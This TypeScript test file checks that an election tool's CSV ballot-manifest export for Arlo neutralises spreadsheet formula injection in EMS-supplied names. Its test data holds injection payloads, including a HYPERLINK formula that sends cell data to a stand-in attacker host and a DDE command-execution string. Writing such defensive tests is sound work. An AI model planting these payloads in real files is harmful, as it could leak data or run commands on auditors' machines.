/**
 * Issue #14 item 7: names in the Arlo ballot manifest come from the EMS export (tabulator, batch,
 * counting group). A name that starts with = + - @ (or tab / CR) became a live formula when an
 * auditor opened the manifest in a spreadsheet (CSV injection).
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { arloManifestCsv, validateArloManifest } from '../../daemon/importer/arlo.ts';

const hostile = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

describe('Arlo ballot manifest CSV', () => {
  it('writes EMS names that look like formulas as plain text', () => {
    const rows = hostile.map((name, i) => ({ container: name, tabulator: `${name}-tab`, batchName: `${name}-${i}`, numberOfBallots: 10 + i, cvr: 'Y' as const }));
    const csv = arloManifestCsv(rows);
    const cells = (parse(csv, { relax_column_count: true }) as string[][]).slice(1);
    expect(cells).toHaveLength(hostile.length);
    for (const row of cells) {
      for (const cell of row.slice(0, 3)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(row[0]?.startsWith("'")).toBe(true);
      expect(Number(row[3])).toBeGreaterThanOrEqual(10); // counts stay numbers
    }
    // The neutralised text is still there to read, and Arlo still accepts the file.
    expect(cells[0]?.[0]).toBe(`'${hostile[0]}`);
    expect(validateArloManifest(csv, 'HYBRID').ok).toBe(true);
  });

  it('leaves ordinary names as they are (Arlo matches them against the CVRs)', () => {
    const csv = arloManifestCsv([{ container: 'Election Day', tabulator: 'ICP 1', batchName: 'Batch 7', numberOfBallots: 12, cvr: 'Y' }]);
    expect(csv).toBe('Container,Tabulator,Batch Name,Number of Ballots,CVR\r\nElection Day,ICP 1,Batch 7,12,Y\r\n');
  });
});
